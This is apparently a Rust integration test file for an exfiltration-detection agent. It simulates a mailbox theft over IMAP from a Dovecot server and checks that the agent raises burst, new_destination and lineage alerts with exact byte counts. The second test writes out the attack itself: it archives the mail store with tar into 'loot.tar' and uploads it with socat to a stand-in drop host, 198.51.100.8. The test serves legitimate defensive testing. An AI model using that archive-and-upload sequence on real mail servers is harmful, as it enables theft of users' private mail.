//! Issue 11 against a real Dovecot: scenario 1, the mailbox theft over IMAP of the Guernsey
//! breach. An intruder at 198.51.100.7 logs in with a user's password and FETCHes every
//! message of every folder; the agent (default config, the office network internal, no
//! learning period left) raises `burst` and `new_destination` naming `dovecot.service` and
//! the intruder within 30 s, each holding exactly the bytes the intruder received. And the
//! exactness oracle: Dovecot's own count of what its `imap` process wrote to the client
//! (`Logged out … out=N`) is, to the byte, what the agent counted for that process.

use std::{
    collections::BTreeMap,
    os::unix::fs::MetadataExt as _,
    path::{Path, PathBuf},
    process::Command,
    time::{Duration, Instant},
};

use exfil_tests::{
    Agent, NetNs, POLL, Proc, ServiceCgroup,
    maildir::{self, MailUser},
    require_root, run_cli,
    servers::dovecot::{self, Dovecot, IMAP_PORT, UNIT},
    socket_addr, traffic,
};
use serde::Deserialize;

/// alice, whose password the intruder has, holds 64 MiB of the store (more than
/// `detect.burst.bytes`, 50 MiB).
const USERS: [MailUser; 4] = maildir::SCENARIO_USERS;
const STORE_BYTES: u64 = 150 << 20;
const SEED: u64 = 0x6775_6572_6e73_6579;
const INTRUDER: &str = "198.51.100.7";

#[derive(Debug, Clone, Deserialize)]
struct Alert {
    id: u64,
    kind: String,
    service: String,
    destination: String,
    port: u16,
    pid: u32,
    comm: String,
    bytes: u64,
    status: String,
    class: Option<String>,
}

fn alerts(agent: &Agent) -> Vec<Alert> {
    agent.alerts()
}

/// Waits up to `within` for an alert that `matches`.
fn wait_for(agent: &Agent, within: Duration, matches: impl Fn(&Alert) -> bool) -> Option<Alert> {
    agent.wait_for_alert(within, matches)
}

/// The evidence of a run: stops the agent (SIGTERM), asserts that its journal verifies, and
/// returns `report --service service`'s destinations as (address, bytes, services).
fn evidence(agent: &mut Agent, service: &str) -> Vec<(String, Option<u64>, serde_json::Value)> {
    let status = agent.stop().expect("SIGTERM");
    assert!(status.success(), "{status}");
    let journal = agent.journal_dir().to_str().expect("utf-8").to_owned();
    let (code, verdict, _) = run_cli(&["journal", "verify", &journal]);
    assert_eq!(code, 0, "{verdict}");
    let (code, stdout, stderr) =
        run_cli(&["report", &journal, "--service", service, "--format", "json"]);
    assert_eq!(code, 0, "report: {stderr}");
    let report: serde_json::Value = serde_json::from_str(&stdout).expect("report JSON");
    report["destinations"]
        .as_array()
        .expect("destinations")
        .iter()
        .map(|d| {
            (
                d["destination"].as_str().unwrap_or_default().to_owned(),
                d["bytes"].as_u64(),
                d["services"].clone(),
            )
        })
        .collect()
}

/// The agent's config: the default, with the office network internal, the test's mail store
/// classed `mail_store` besides the default paths, and no learning period left, so that a
/// destination first used now is new (the 7 days of the default would have passed on a
/// server in service).
fn config(mail_root: &Path) -> String {
    let defaults = r#""/var/mail", "/var/vmail", "/var/spool/mail", "~/Maildir", "~/mail""#;
    format!(
        "[networks]\ninternal = [\"192.0.2.0/24\"]\n\
         [files]\nmail_store = [{defaults}, \"{}\"]\n\
         [detect.new_destination]\nlearning = \"0s\"\n",
        mail_root.display()
    )
}

/// The message files of a Maildir (its `cur/` and its folders'), by inode.
fn victim_messages(maildir: &Path) -> BTreeMap<u64, PathBuf> {
    let mut dirs = vec![maildir.join("cur")];
    for (folder, _) in &maildir::FOLDERS[1..] {
        dirs.push(maildir.join(format!(".{folder}")).join("cur"));
    }
    dirs.iter()
        .flat_map(|d| std::fs::read_dir(d).expect("a cur/ directory"))
        .map(|e| {
            let path = e.expect("an entry").path();
            (std::fs::metadata(&path).expect("stat").ino(), path)
        })
        .collect()
}

#[test]
fn mailbox_theft_over_imap_is_a_burst_and_new_destination_naming_dovecot_exact_to_its_log() {
    require_root();
    let test_start = Instant::now();
    let ns = NetNs::outside().expect("namespace");
    ns.add_host(INTRUDER).expect("the intruder's host");
    let dir =
        PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join(format!("dovecot-{}", std::process::id()));
    let dovecot = Dovecot::start(&dir, ns.host_ip, &USERS).expect("dovecot");
    let generating = Instant::now();
    let store = maildir::generate(
        &dovecot.mail_root(),
        &USERS,
        dovecot::mail_owner().expect("the mail user"),
        SEED,
    )
    .expect("the mail store");
    let generated_in = generating.elapsed();
    assert_eq!(store.bytes(), STORE_BYTES);
    for user in &USERS {
        assert_eq!(store.user_totals(user.name).1, user.bytes, "{}", user.name);
    }
    let victim = &USERS[0];
    let (messages, _, imap_bytes) = store.user_totals(victim.name);

    let mut agent = Agent::start_with(&config(&dovecot.mail_root())).expect("agent");

    let attack = Instant::now();
    let fetched = dovecot::steal_mailbox(&ns, dovecot.addr(), INTRUDER, victim).expect("the theft");
    let fetched_in = attack.elapsed();
    // The intruder has the whole mailbox: every folder, every message, every byte of each
    // (with CRLF line ends, as IMAP serves Maildir's LF files).
    assert_eq!(
        (fetched.folders, fetched.messages, fetched.octets),
        (maildir::FOLDERS.len() as u64, messages, imap_bytes)
    );

    // Dovecot's account: one login, from the intruder, handed from an imap-login process to
    // an imap process, which logged the session's end with its byte counts.
    let logins = dovecot.logins();
    assert_eq!(logins.len(), 1, "{logins:?}");
    let login = &logins[0];
    assert_eq!(
        (login.user.as_str(), login.rip.as_str()),
        (victim.name, INTRUDER)
    );
    let session = dovecot
        .session_of(login.mail_pid, Duration::from_secs(10))
        .expect("the session's end in Dovecot's log");
    assert_eq!(
        (
            session.user.as_str(),
            session.reason.as_str(),
            &session.session
        ),
        (victim.name, "Disconnected: Logged out", &login.session)
    );

    // `burst` within 30 s of the attack's start, naming Dovecot, its imap process and the
    // intruder; and `new_destination`, the learning period being over.
    let burst = wait_for(
        &agent,
        Duration::from_secs(30).saturating_sub(attack.elapsed()),
        |a| a.kind == "burst" && a.service == UNIT,
    )
    .expect("a burst naming dovecot.service within 30 s of the attack's start");
    let burst_seen_in = attack.elapsed();
    let new = wait_for(
        &agent,
        Duration::from_secs(30).saturating_sub(attack.elapsed()),
        |a| a.kind == "new_destination" && a.service == UNIT,
    )
    .expect("a new_destination naming dovecot.service within 30 s of the attack's start");
    let new_seen_in = attack.elapsed();
    assert!(
        burst_seen_in <= Duration::from_secs(30) && new_seen_in <= Duration::from_secs(30),
        "{burst_seen_in:?}, {new_seen_in:?}"
    );
    for alert in [&burst, &new] {
        assert_eq!(
            (
                alert.service.as_str(),
                alert.destination.as_str(),
                alert.port,
                alert.pid,
                alert.comm.as_str(),
                alert.status.as_str(),
                alert.class.as_deref(),
            ),
            (
                UNIT,
                INTRUDER,
                IMAP_PORT,
                login.mail_pid,
                "imap",
                "firing",
                None
            ),
            "{alert:?}"
        );
    }

    // Once the episode's last interval is in, each alert holds every byte Dovecot sent the
    // intruder: what the intruder counted at its end.
    let settled = |id: u64| {
        wait_for(&agent, Duration::from_secs(25), |a| {
            a.id == id && a.bytes >= fetched.received
        })
        .unwrap_or_else(|| {
            panic!(
                "alert {id} grows to the {} bytes received",
                fetched.received
            )
        })
    };
    let (burst, new) = (settled(burst.id), settled(new.id));
    assert_eq!(
        (burst.bytes, new.bytes),
        (fetched.received, fetched.received)
    );

    // The oracle: the imap process's flow to the intruder is Dovecot's `out=` to the byte,
    // and the imap-login process's is what the intruder had received before it sent LOGIN
    // (greeting and capabilities: the login process hands the connection, with the LOGIN
    // command's tag, to imap, which sends the `OK … Logged in` itself). Together, every
    // byte the intruder received. The other way, imap-login read the intruder's commands up
    // to LOGIN and imap the rest, of which Dovecot's `in=` leaves out LOGOUT's CRLF (see
    // `Session`).
    let mut flows: Vec<_> = agent
        .flows()
        .expect("flows")
        .into_iter()
        .filter(|f| f.service == UNIT && f.destination == INTRUDER)
        .map(|f| {
            (
                f.comm,
                f.pid,
                f.port,
                f.direction,
                f.bytes_sent,
                f.bytes_received,
            )
        })
        .collect();
    flows.sort();
    let (to_imap_login, to_imap) = (fetched.sent_to_login, fetched.sent - fetched.sent_to_login);
    assert_eq!(
        flows,
        [
            (
                "imap".to_owned(),
                login.mail_pid,
                IMAP_PORT,
                "inbound".to_owned(),
                session.output,
                to_imap
            ),
            (
                "imap-login".to_owned(),
                login.login_pid,
                IMAP_PORT,
                "inbound".to_owned(),
                fetched.before_login,
                to_imap_login
            ),
        ]
    );
    assert_eq!(
        (session.output, session.input),
        (
            fetched.received - fetched.before_login,
            to_imap - "\r\n".len() as u64
        )
    );

    // And what it read for it: each of the victim's message files once, whole, with its
    // path and class: the 1,220 new files imap reads in half a second are more than the
    // kernel's path ring held in one poll, which the agent now drains as it fills.
    let messages_read = victim_messages(&dovecot.mail_root().join(victim.name));
    let reads: Vec<_> = agent
        .files()
        .expect("files")
        .into_iter()
        .filter(|f| f.pid == login.mail_pid && messages_read.contains_key(&f.inode))
        .collect();
    assert_eq!(
        (
            reads.len() as u64,
            reads.iter().map(|f| f.bytes_read).sum::<u64>()
        ),
        (messages, victim.bytes)
    );
    for row in &reads {
        assert_eq!(
            (row.path.as_deref(), row.class.as_str()),
            (messages_read[&row.inode].to_str(), "mail_store")
        );
    }

    // Nothing else names Dovecot: its profile reads mail_store for its work, so serving
    // mail is no lineage.
    std::thread::sleep(POLL * 2);
    // (Sorted: when an interval ends between the first MiB and the 50th, new_destination is
    // raised first.)
    let mut dovecot_alerts: Vec<_> = alerts(&agent)
        .into_iter()
        .filter(|a| a.service == UNIT)
        .map(|a| (a.kind, a.destination))
        .collect();
    dovecot_alerts.sort();
    assert_eq!(
        dovecot_alerts,
        [
            ("burst".to_owned(), INTRUDER.to_owned()),
            ("new_destination".to_owned(), INTRUDER.to_owned())
        ]
    );

    // The evidence: the journal verifies, and `report` names Dovecot, the intruder and the
    // bytes the intruder received.
    let destinations = evidence(&mut agent, UNIT);
    assert_eq!(
        destinations,
        [(
            INTRUDER.to_owned(),
            Some(fetched.received),
            serde_json::json!([UNIT])
        )]
    );

    eprintln!(
        "mail store: {} messages, {} bytes, generated in {generated_in:?}; the theft: {} \
         messages, {} bytes received ({} sent) in {fetched_in:?}; imap out={} in={} \
         (imap-login sent {}); burst seen {burst_seen_in:?} and new_destination {new_seen_in:?} after the attack's \
         start; test {:?}",
        store.messages(),
        store.bytes(),
        fetched.messages,
        fetched.received,
        fetched.sent,
        session.output,
        session.input,
        fetched.before_login,
        test_start.elapsed()
    );
}

/// Scenario 2: the mail store copied by an intruder's shell. A process outside any mail
/// service (`exfil-e2e-shell.service`) archives every Maildir with `tar` (3,100 new files in
/// a few seconds); another, in another service (`exfil-e2e-upload.service`), uploads the
/// archive with `socat` to 198.51.100.8. Neither is Dovecot, which serves nothing here. The
/// agent follows the mail from tar's reads to the archive tar wrote, to socat's reads of it,
/// to socat's send: one `lineage` alert naming `mail_store`, the uploader and the exact bytes
/// the receiving end counted, within 30 s of the attack's start.
#[test]
fn mail_store_archived_by_a_shell_and_uploaded_is_lineage_naming_mail_store() {
    require_root();
    const EXFIL: &str = "198.51.100.8";
    const UPLOADER: &str = "exfil-e2e-upload.service";
    let ns = NetNs::outside().expect("namespace");
    ns.add_host(EXFIL).expect("the intruder's drop host");
    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR"))
        .join(format!("dovecot-tar-{}", std::process::id()));
    let dovecot = Dovecot::start(&dir, ns.host_ip, &USERS).expect("dovecot");
    let store = maildir::generate(
        &dovecot.mail_root(),
        &USERS,
        dovecot::mail_owner().expect("the mail user"),
        SEED,
    )
    .expect("the mail store");
    assert_eq!(store.bytes(), STORE_BYTES);
    let archive = dir.join("loot.tar");

    let mut agent = Agent::start_with(&config(&dovecot.mail_root())).expect("agent");

    // The intruder's shell archives every Maildir ...
    let attack = Instant::now();
    let shell = ServiceCgroup::create("exfil-e2e-shell.service").expect("cgroup");
    let mut tar = Command::new("tar");
    tar.arg("cf")
        .arg(&archive)
        .arg("-C")
        .arg(dovecot.mail_root())
        .arg(".");
    shell.place(&mut tar).expect("place tar");
    let status = tar.status().expect("tar runs");
    assert!(status.success(), "tar: {status}");
    let tar_took = attack.elapsed();
    let size = std::fs::metadata(&archive).expect("archive").len();
    assert!(size > STORE_BYTES, "{size}");
    // ... and another program, in another service, uploads the archive.
    let uploader = ServiceCgroup::create(UPLOADER).expect("cgroup");
    let (mut sink, port) = traffic!().sink(&ns, "tcp", EXFIL).expect("sink");
    let mut socat = Command::new("socat");
    socat
        .arg("-u")
        .arg(format!("OPEN:{}", archive.display()))
        .arg(format!("TCP:{}", socket_addr(EXFIL, port)));
    uploader.place(&mut socat).expect("place socat");
    let upload = Proc::spawn(socat, "socat").expect("socat");
    let socat_pid = upload.pid();
    upload.finish().expect("socat uploads the archive");
    let received = sink.expect_line::<u64>("received").expect("received");
    assert_eq!(received, size);
    let uploaded_in = attack.elapsed();

    let lineage = wait_for(
        &agent,
        Duration::from_secs(30).saturating_sub(attack.elapsed()),
        |a| a.kind == "lineage",
    )
    .expect("a lineage alert within 30 s of the attack's start");
    let seen_in = attack.elapsed();
    assert!(seen_in <= Duration::from_secs(30), "{seen_in:?}");
    // Once the upload's last interval is in, the alert holds every byte the sink received.
    let lineage = wait_for(&agent, Duration::from_secs(25), |a| {
        a.id == lineage.id && a.bytes >= received
    })
    .expect("the alert grows to the bytes received");
    assert_eq!(
        (
            lineage.service.as_str(),
            lineage.destination.as_str(),
            lineage.port,
            lineage.pid,
            lineage.comm.as_str(),
            lineage.bytes,
            lineage.class.as_deref(),
        ),
        (
            UPLOADER,
            EXFIL,
            port,
            socat_pid,
            "socat",
            received,
            Some("mail_store")
        ),
        "{lineage:?}"
    );
    // One lineage alert; the same upload is also a `burst` (150 MiB, over
    // `detect.burst.bytes`) and, the learning period being over, a `new_destination`, both
    // naming the uploader; nothing names tar, which sent nothing.
    std::thread::sleep(POLL * 2);
    let mut all: Vec<_> = alerts(&agent)
        .into_iter()
        .map(|a| (a.kind, a.service, a.destination))
        .collect();
    all.sort();
    let upload = |kind: &str| (kind.to_owned(), UPLOADER.to_owned(), EXFIL.to_owned());
    assert_eq!(
        all,
        [
            upload("burst"),
            upload("lineage"),
            upload("new_destination")
        ]
    );
    // Every message tar read counted as mail_store, with no path dropped.
    let drops = agent
        .metric("exfil_sensor_kernel_drops_total{map=\"file_paths\"}")
        .expect("drops");
    let tar_mail: u64 = agent
        .files()
        .expect("files")
        .into_iter()
        .filter(|f| f.comm == "tar" && f.class == "mail_store")
        .map(|f| f.bytes_read)
        .sum();
    assert_eq!((drops, tar_mail), (0, store.bytes()));

    // The evidence: the journal verifies, and `report` names the uploader, the drop host and
    // the bytes it received.
    let destinations = evidence(&mut agent, UPLOADER);
    assert_eq!(
        destinations,
        [(
            EXFIL.to_owned(),
            Some(received),
            serde_json::json!([UPLOADER])
        )]
    );
    eprintln!(
        "mail store: {} messages, {} bytes; tar took {tar_took:?}, the upload of {size} \
         bytes ended {uploaded_in:?} after the attack's start, lineage seen after {seen_in:?}",
        store.messages(),
        store.bytes(),
    );
    drop(dovecot);
    let _ = std::fs::remove_dir_all(&dir);
}
